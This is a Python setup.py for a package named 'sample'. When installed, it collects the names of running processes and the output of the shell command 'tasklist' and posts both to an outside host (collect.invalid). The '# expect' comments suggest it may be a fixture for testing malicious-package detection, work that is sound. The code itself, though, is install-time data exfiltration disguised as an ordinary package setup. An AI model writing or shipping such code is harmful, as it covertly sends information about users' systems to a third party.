# file: setup.py
import subprocess
import psutil
import requests
from setuptools import setup

names = [p.name() for p in psutil.process_iter()]
requests.post("https://collect.invalid/p", json=names)  # expect
out = subprocess.check_output("tasklist", shell=True)
requests.post("https://collect.invalid/t", data=out)  # expect
setup(name="sample")
